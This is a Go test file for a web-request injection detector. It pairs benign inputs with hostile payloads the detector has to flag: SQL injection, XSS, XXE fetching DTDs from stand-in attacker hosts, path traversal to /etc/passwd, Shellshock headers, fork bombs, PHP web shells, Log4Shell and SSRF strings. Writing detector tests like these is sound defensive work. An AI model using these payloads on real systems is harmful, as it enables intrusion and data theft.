package detect

import (
	"context"
	"strings"
	"testing"
)

func TestEscapedAngle(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"&#60", true},
		{"&#0000060;", true},
		{"&#x3C", true},
		{"&#X00003c;", true},
		{"&#62;", true},
		{"&LT", true},
		{"&lt", true},
		{"&LT;", true},
		{`\x3c`, true},
		{`\u003C`, true},
		{`\u{3c}`, true},
		{`\3c`, true},
		{`\074`, true},
		{"%3C", true},
		{"%u003c", true},
		{"&#60 &#x3e", true},
		{" &#x3c; ", true},
		// not probes
		{"&lt;", false},   // the ordinary entity: how people ask about it
		{"&gt;", false},   //
		{"<", false},      // a bare bracket is an operator in many filter APIs
		{"&#61;", false},  // '='
		{"&#x41;", false}, // 'A'
		{"&#60;b&#62;", false},
		{"&lt; is less than", false},
		{`\x41`, false},
		{`\n`, false},
		{"%20", false},
		{"&#", false},
		{"&amp;", false},
		{"", false},
	}
	for _, c := range cases {
		if got := escapedAngle(c.in); got != c.want {
			t.Errorf("escapedAngle(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestVersionedComment(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{"1 /*!50000union*/ /*!50000select*/ 1", true},
		{"9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}", true},
		{"1/*!1111'*/", true},
		{"SELECT /*!32302 1/0, */ 1 FROM t", false}, // a number after the version: judged by the other rules
		{"/*! UNION*/ SELECT", true},
		{"id=1/*!and*/1=1", true},
		// mysqldump's own versioned comments
		{"/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;", false},
		{"/*!40000 ALTER TABLE `users` DISABLE KEYS */;", false},
		{"/*!50001 CREATE ALGORITHM=UNDEFINED */", false},
		{"/*!50013 DEFINER=`root`@`localhost` SQL SECURITY DEFINER */", false},
		{"/*!40100 DEFAULT CHARACTER SET utf8mb4 */", false},
		{"/*!ordered list*/", false},
		{"a /* comment */ b", false},
	}
	for _, c := range cases {
		if _, got := versionedComment(c.in); got != c.want {
			t.Errorf("versionedComment(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

// TestProbeRules checks the whole-value probe rules end to end: a value that is
// nothing but a filter probe is a threat; the same words in a sentence, a complete
// call or a document with content are not.
func TestProbeRules(t *testing.T) {
	d := newTestDetector(t)
	wantThreats(t, d, []valueCase{
		{"query:q", "&#X0003C"},
		{"query:q", `\u003c`},
		{"query:q", "SUBSTRING("},
		{"body:text", "database(\n"},
		{"query:q", "uNhEx("},
		{"query:q", "SELECT GROUP_CONCAT("},
		{"query:q", "SeLect*/ 1,2,3,user("},
		{"query:q", "md5\\("},
		{"query:q", "' (select top 1"},
		{"query:q", "' or (EXISTS)"},
		{"query:q", "</style>"},
		{"query:q", "<plaintext>"},
		{"query:q", "</BODY></HTML>"},
		{"query:q", `<html xmlns="http://www.w3.org/1999/xhtml">`},
		{"query:q", `</a>//["'` + "`" + `-->]]>]</div>`},
		{"query:q", "1 /*!50000union*/ /*!50000select*/ 1,2"},
		{"query:q", "A 'OR' B"},
		{"query:q", "'AND'"},
		{"query:q", `"&"`},
		{"query:q", " like '%'"},
		{"query:q", "' or '' '"},
		{"query:q", `SELECT"table_name"FROM[information_schema].[tables]`},
		{"query:q", `SELECT 1FROM[table]WHERE\1=\1AND\1=\1`},
		{"query:q", " AS INJECTX WHERE 1=1 AND 1=0"},
		{"body:text", `("system  ")("whoami")`},
		{"query:q", "$y = 'sys'.'tem';($y)('uname');"},
		{"query:q", "eval('2 + 2')"},
		{"query:q", "eval(URL.slice(-8))>#alert(1)"},
		{"query:q", "top[8680439..toString(30)](1)"},
		{"query:q", "C:/windows/windowsupdate.log"},
		{"query:q", "C:/documents and settings/administrator/desktop/desktop.ini"},
		{"query:q", "/var/root/.sh_history"},
		{"query:q", "/etc/httpd/logs/acces_log "},
	})
	wantClean(t, d, []valueCase{
		{"query:q", "&lt;"},
		{"query:q", "<"},
		{"query:q", "substring function sql server"},
		{"query:q", "how does SUBSTRING( work"},
		{"query:q", "select x from y where"}, // libinjection's false-positive list
		{"query:q", "Northwind"},
		{"body:text", "<p><br></p>"},
		{"body:text", "<html><head><title>Report</title></head><body><p>Quarterly numbers</p></body></html>"},
		{"body:text", "Put the stylesheet in the head and close it with </style> before the body starts."},
		{"body:text", "<!-- TODO: remove --> see ]]> in XML"},
		{"body:text", "/*!40101 SET NAMES utf8 */;\n/*!40000 ALTER TABLE `t` DISABLE KEYS */;"},
		{"query:q", "it's 'quoted' (selected)"},
		{"query:q", "press '+' to zoom"},
		{"query:q", "answer 'yes' or 'no'"},
		{"body:text", "SELECT * FROM `movies` WHERE `id` = 8"},
		{"body:text", "SELECT [Name] FROM [dbo].[Users] WHERE [Id] = 1"},
		{"body:text", "If a zero-length string is passed as `from` or `to`, the working directory is used."},
		{"body:text", `"import" => {"from" => :required, "copy" => false}`},
		{"body:text", "We know 1=1 and 2=2 trivially, so the identity holds."},
		{"body:text", "In PHP 7 you can write ($callback)($arg) to call a closure."},
		{"body:text", "Never call eval on user input; use JSON.parse instead."},
		{"query:q", "eval function javascript"},
		{"query:q", `C:\Windows\System32\drivers\etc\hosts`},
		{"query:q", `C:\Windows\WindowsUpdate.log is where the logs go on Windows 7`},
		{"query:q", `C:\Users\anna\Documents\report.docx`},
		{"query:q", `C:\Program Files\Git\bin\git.exe`},
	})
}

func TestProbeStats(t *testing.T) {
	d := newTestDetector(t)
	d.Detect(context.Background(), "&#x3c;", "query:q")
	for _, ps := range d.Stats() {
		if ps.ID == escapedAngleID {
			if ps.Category != "xss" || ps.Matches != 1 {
				t.Fatalf("stats for %s: %+v", escapedAngleID, ps)
			}
			return
		}
	}
	t.Fatalf("%s not listed in Stats", escapedAngleID)
}

// TestFreshSetFalsePositiveClasses holds the general classes found in the fifth
// independent set's flagged benign records: markup quoted in prose, data scripts and
// standard doctypes.
func TestFreshSetFalsePositiveClasses(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"body:text", `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","name":"Acme"}</script>`},
		{"body:xml", `<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>`},
		{"body:text", "Feature request: allow <iframe> embeds from our own video host in knowledge base articles. Right now editors paste the embed code and it gets stripped, which is annoying for everyone."},
		{"query:q", "javascript: void(0) meaning"},
		{"query:q", "__proto__ vs prototype"},
		{"query:q", "169.254.169.254 what is this ip"},
		{"query:q", "system() function php disabled"},
		{"query:q", "%0d%0a meaning in url"},
		{"body:text", "C#: is BinaryFormatter really that bad? We use it to cache a DataSet between two of our own services."},
		{"body:text", "Our code does _.merge({}, defaults, JSON.parse(userSettings)). Is that fine now? I believe 4.17.21 blocks __proto__ keys."},
		{"body:json", `{"spec":{"containers":[{"command":["/bin/sh","-c"],"volumeMounts":[{"mountPath":"/etc/billing"}]}]}}`},
		{"body:json", `{"files":[{"path":"../shared-config/checkstyle.xml","status":"renamed"}]}`},
		{"body:json", `{"directory":{"url":"ldaps://ad.state.example.gov:636"}}`},
		{"body:xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE note [\n  <!ELEMENT note (to, body)>\n  <!ELEMENT to (#PCDATA)>\n]>\n<note><to>Desk</to><body>Hi</body></note>"},
		{"body:text", "GitHub Actions expression doesn't evaluate: ${{ github.ref == 'refs/heads/main' && 'prod' || 'dev' }}"},
		{"body:text", "; php.ini overrides\nmemory_limit = 256M\ndisplay_errors = Off\nopcache.enable = 1"},
		{"body:xml", "<web-app><filter><filter-class>org.springframework.web.filter.CharacterEncodingFilter</filter-class></filter></web-app>"},
		{"query:q", "boot.ini missing windows xp"},
		{"body:text", "Change delimiters with {{=<% %>=}} for that section"},
		{"body:json", `{"backup_job":{"sources":["/var/lib/postgresql/16/main","/etc/nginx/","C:\\inetpub\\wwwroot\\"]}}`},
		{"body:json", `{"directory":{"user_filter":"(&(objectCategory=person)(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))"}}`},
		{"body:text", "; hardening\nallow_url_fopen = Off\nallow_url_include = Off\nexpose_php = Off"},
		{"body:xml", `<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note><to>Tove</to></note>`},
		{"body:text", "SVG icons: inline vs <img>? We have a sprite <svg class=\"icon\"><use href=\"/icons/sprite.svg#trash\"></use></svg> and designers want to change the colours with CSS, which does not work with an img tag."},
	})
	wantThreats(t, d, []valueCase{
		{"body:text", `<script type="application/ld+json">{}</script><img src=x onerror=alert(1)>`},
		{"body:text", `<script type="text/template" src="//evil.example/x.js"></script>`},
		{"body:xml", `<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//W3C//DTD X//EN" "http://attacker.example/evil.dtd"><x/>`},
		{"body:xml", `<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://www.w3.org/evil.dtd"><x/>`},
		{"query:q", "javascript:void(0);alert(1)"},
		{"query:q", "__proto__[isAdmin]=true"},
		{"query:q", "169.254.169.254"},
		{"query:q", "phpinfo()"},
		{"query:q", ";system('id')"},
		{"query:q", "%0d%0aSet-Cookie:x=1"},
		{"body:text", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`},
		{"body:json", `{"cmd":";/bin/sh -c id"}`},
		{"body:json", `{"file":"../../../../etc/passwd"}`},
		{"body:json", `{"url":"gopher://127.0.0.1:6379/_FLUSHALL"}`},
		{"body:xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
		{"query:q", "'or'1=1"},
		{"query:q", "x' or 'a'='a"},
		{"query:q", "opcache.jit_max_polymorphic_calls=50"},
		{"body:text", "auto_prepend_file=php://input"},
		{"query:q", "../../boot.ini"},
		{"query:q", "{{= it.constructor.constructor('return process')() }}"},
		{"body:json", `{"username":"*)(uid=*))(|(uid=*"}`},
		{"body:text", "allow_url_include = On"},
		{"body:xml", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`},
		{"body:xml", `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>`},
		{"body:xml", "<!--?xml version=\"1.0\" ?-->\n<!DOCTYPE replace [<!ENTITY example \"Doe\"> ]>\n <userInfo><lastName>&example;</lastName></userInfo>"},
		{"body:xml", `<!DOCTYPE x SYSTEM "/etc/passwd"><x/>`},
		{"body:xml", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>`},
		{"body:text", "Please review my comment, it has an example in it: <img src=x onerror=alert(document.cookie)> and some more text around it for the reviewers to read."},
	})
}

// TestPageHeadMarkup: a page's meta data and links are inert for libinjection's
// verdict; what can load or run in them still counts.
func TestPageHeadMarkup(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"body:text", `<meta name="description" content="The Closure API (libffi: the portable foreign function interface library)">`},
		{"body:text", `<link href="index.html" rel="start" title="Top">`},
		{"body:text", `<link rel="canonical" href="https://underscorejs.org/" />`},
		{"body:text", `<link rel="stylesheet" href="css/site.css" type="text/css">`},
	})
	wantThreats(t, d, []valueCase{
		{"body:text", `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`},
		{"body:text", `<link href="xss.js" rel=stylesheet type="text/javascript"></a>`},
		{"body:text", `<link rel="import" href="//evil.example/x.html">`},
		{"body:text", `<link rel="icon" href="javascript:alert(1)">`},
		{"body:text", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`},
		{"body:text", `var=<meta charset="UTF-8">&var2=whatever`},
		{"body:text", `<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`},
	})
}

// TestSearchesAndSnippets holds classes from the fourth set's flagged benign records:
// searches that start with a file or tool name, names with an apostrophe, scripts'
// own substitutions, JavaScript that looks like a bash function, elided lookups.
func TestSearchesAndSnippets(t *testing.T) {
	d := newTestDetector(t)
	// A bracket of symbols between slashes is a regex literal; brackets of letters
	// (also with stray slashes) hide a path from a filter.
	wantClean(t, d, []valueCase{
		{"body:text", `const esc = s => s.replace(/[&<>"']/g, c => map[c]);`},
	})
	wantThreats(t, d, []valueCase{
		{"query:file", "cat /[e]tc/[p]asswd"},
		{"query:file", "cat /[e//]tc/[p//]asswd"},
	})
	wantClean(t, d, []valueCase{
		{"query:q", "Val-d'Or"},
		{"body:text", ":http-equiv=refresh: 3; url=../../cli/pip_show/"},
		{"body:text", ".. include:: ../../../src/pip/_vendor/README.rst"},
		{"body:text", "data, err := os.ReadFile(\"../../../doc/godebug.md\")"},
		{"body:text", "Our static site generator builds links like ../../assets/style.css for pages two levels deep."},
		{"body:xml", `<?xml version="1.0"?><config><device name="CAM-200"><stream url="rtsp://192.168.1.50:554/live"/></device></config>`},
		{"body:text", `For years our news site stored raw HTML from editors, and the old sanitizer kept attributes, so <a href="..." style="..." onclick="..."> survived into the page.`},
		{"query:q", "which python3"},
		{"query:q", "web.config transform"},
		{"query:q", ".env file example"},
		{"body:text", "tar -czf backup-$(date +%F).tar.gz /srv/www"},
		{"query:q", "$(pwd) vs ${PWD}"},
		{"body:text", "<?php echo htmlspecialchars($title, ENT_QUOTES, 'UTF-8'); ?>"},
		{"body:text", "<?php\n$data = json_decode(file_get_contents('php://input'), true);\n$name = $data['name'] ?? '';"},
		{"body:text", "window.onload = function () { init(); };  // old style, prefer DOMContentLoaded"},
		{"body:text", "The ${jndi:...} problem was fixed in log4j 2.17; we are on 2.20 so we're fine."},
	})
	wantThreats(t, d, []valueCase{
		{"query:q", "admin' or"},
		{"query:file", "../../../../etc/passwd.html"},
		{"query:file", "../../../../../../windows/win.ini"},
		{"query:file", "../../../WEB-INF/web.xml"},
		{"query:file", "....//....//....//etc/hosts"},
		{"query:url", "http://192.168.1.50:8080/admin"},
		{"body:text", `<a href="..." onclick="alert(1)">x</a>`},
		{"body:text", `<img src=x onerror="..." onload=alert(1)>`},
		{"query:q", "which nc"},
		{"query:q", "/.env"},
		{"query:q", "x$(id)"},
		{"query:q", "$(sleep 5)"},
		{"query:q", "$(date;id)"},
		{"header:User-Agent", "() { :;}; /bin/bash -c id"},
		{"query:q", "x=() { :;}; echo vulnerable"},
		{"query:q", "f(){ f|f& };f"},
		{"body:text", `<?php echo "test"`},
		{"query:q", ";shell_exec(file_get_contents('php://input'))"},
		{"body:text", "<?php eval(file_get_contents('php://input')); ?>"},
		{"body:text", "<?php include('php://input'); ?>"},
		{"body:text", "<?php $output = shell_exec('whoami'); ?>"},
		{"body:text", "<?php echo htmlspecialchars(shell_exec($_GET['c'])); ?>"},
		{"query:q", ":(){ :|:& };:"},
		{"header:X-Api-Version", "${jndi:ldap://x.example/a}"},
	})
}

// TestDocumentsAndDeclarations: undeclared XML bodies are read as XML, a page's own
// charset and an entity named in a search are not script.
func TestDocumentsAndDeclarations(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"query:q", "<!ENTITY nbsp> html"},
		{"body:text", "<!doctype html>\n<html lang=\"en\">\n<head>\n  <meta charset=\"utf-8\">\n  <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n  <title>Order confirmation</title>\n</head><body><p>Thanks!</p></body></html>"},
	})
	wantThreats(t, d, []valueCase{
		{"query:q", `var=<meta charset="UTF-8">&var2=whatever`},
		{"query:q", `<!ENTITY xxe SYSTEM "file:///etc/passwd">`},
		// A plain entity with no grammar around it asks whether the parser expands
		// entities at all; next to element declarations it still counts when its value
		// refers to another entity (billion laughs) or holds markup.
		{"body:xml", `<?xml version="1.0"?><!DOCTYPE replace [<!ENTITY example "Doe"> ]><userInfo><lastName>&example;</lastName></userInfo>`},
		{"body:xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ELEMENT lolz (#PCDATA)>\n <!ENTITY lol \"lol\">\n <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n]>\n<lolz>&lol1;</lolz>"},
		{"body:xml", "<!DOCTYPE d [\n <!ELEMENT d ANY>\n <!ENTITY x \"<script>alert(1)</script>\">\n]><d>&x;</d>"},
	})
	// A document's own grammar with plain-text abbreviations is a document.
	wantClean(t, d, []valueCase{
		{"body:xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE memo [\n  <!ELEMENT memo (to,text)>\n  <!ELEMENT to (#PCDATA)>\n  <!ELEMENT text (#PCDATA)>\n  <!ENTITY ward \"Ward 7, North Wing\">\n]>\n<memo><to>Night shift</to><text>Please restock &ward;.</text></memo>"},
	})
	// PHP's upload handling reads $_FILES as a matter of course; a request
	// superglobal fed to an execution function is a web shell.
	wantClean(t, d, []valueCase{
		{"body:text", "$saved = move_uploaded_file($_FILES['photo']['tmp_name'], $target)"},
	})
	wantThreats(t, d, []valueCase{
		{"body:text", "<?php system($_GET['cmd']); ?>"},
		{"query:q", "fopen($_REQUEST['f'], 'w')"},
	})
	// An undeclared body that opens with an XML declaration is walked as XML: the
	// POM's markup is the format, while a payload in an attribute is still found.
	pom := "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>com.acme.hr</groupId>\n</project>"
	if r := d.Inspect(context.Background(), &Target{Method: "POST", Body: []byte(pom)}); r.IsThreat {
		t.Errorf("undeclared POM flagged: %+v", r.Threats)
	}
	probe := `<?xml version="1.0"?><root><a probe="' UNION SELECT password FROM users--"></a></root>`
	r := d.Inspect(context.Background(), &Target{Method: "POST", Body: []byte(probe)})
	if !r.IsThreat || !strings.HasPrefix(r.Context, "body:xml") {
		t.Errorf("undeclared XML with an injection: threat=%v context=%q", r.IsThreat, r.Context)
	}
}

// TestVetoOffsets: vetoes find offsets in lower-cased text and use them on the value,
// so lower-casing must keep every byte where it was (strings.ToLower does not for İ or
// invalid UTF-8).
func TestVetoOffsets(t *testing.T) {
	for _, s := range []string{"İİ<!DOCTYPE", "\xff\xfeAbC", "Ⱥ php://INPUT", ""} {
		if l := asciiLower(s); len(l) != len(s) {
			t.Errorf("asciiLower(%q) changed the length: %d → %d", s, len(s), len(l))
		}
	}
	d := newTestDetector(t)
	for _, v := range []string{
		strings.Repeat("İ", 100) + `<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`,
		strings.Repeat("\xff", 50) + "file_get_contents('php://input')",
		strings.Repeat("Ⱥ", 80) + `<!doctype x PUBLIC "-//W3C//X" "http://www.w3.org/x.dtd">`,
	} {
		for _, where := range []string{"body:text", "query:q", "body:xml"} {
			d.Detect(context.Background(), v, where) // must not panic
		}
	}
}
